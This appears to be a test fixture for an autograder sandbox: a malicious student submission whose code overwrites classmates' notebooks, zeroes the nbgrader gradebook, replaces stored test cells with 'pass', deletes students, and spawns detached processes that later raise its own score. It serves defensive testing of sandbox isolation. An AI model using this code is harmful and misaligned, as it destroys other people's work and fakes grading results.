# ruff: noqa  (a submission written as data: placeholders like {PORT} are filled in by the test)
"""Rewrite another student's submission, zero the gradebook through nbgrader's own API and with sqlite, replace
every stored test cell by `pass`, and start a detached process that promotes this submission to full marks
after grading has finished. Expected: every file and grade outside the sandbox unchanged; the detached process
ends with the sandbox; this submission's wrong answers score zero."""

# cell: dot
import os
import sqlite3
import subprocess
import sys
from pathlib import Path

COURSE = Path("{COURSE_ROOT}")
REPORT = []
for target in COURSE.glob("submitted/*/00_prereqs/*.ipynb"):
    try:
        target.write_text("{}")
        REPORT.append(f"overwrote {target}")
    except OSError as exc:
        REPORT.append(f"{target}: {exc}")
for db in [COURSE / "gradebook.db", *Path("/").glob("*/gradebook.db")]:
    try:
        con = sqlite3.connect(db)
        con.execute("UPDATE grade SET auto_score = 0")
        con.execute("UPDATE source_cell SET source = 'pass'")
        con.commit()
        REPORT.append(f"rewrote {db}")
    except Exception as exc:
        REPORT.append(f"{db}: {exc}")
    try:
        from nbgrader.api import Gradebook

        with Gradebook(f"sqlite:///{db}") as gb:
            for student in gb.students:
                gb.remove_student(student.id)
        REPORT.append(f"removed students from {db}")
    except Exception as exc:
        REPORT.append(f"nbgrader API on {db}: {exc}")
LATER = f"""
import sqlite3, time
time.sleep(4)
con = sqlite3.connect({str(COURSE / "gradebook.db")!r})
con.execute("UPDATE grade SET auto_score = 99")
con.commit()
"""
subprocess.Popen(
    [sys.executable, "-c", LATER], start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL
)
if os.fork() == 0:  # and a double-forked one, re-parented away from the kernel
    if os.fork() == 0:
        os.setsid()
        os.execv(sys.executable, [sys.executable, "-c", LATER.replace("99", "98")])
    os._exit(0)
print("\n".join(REPORT))


def dot(a, b):
    return 0
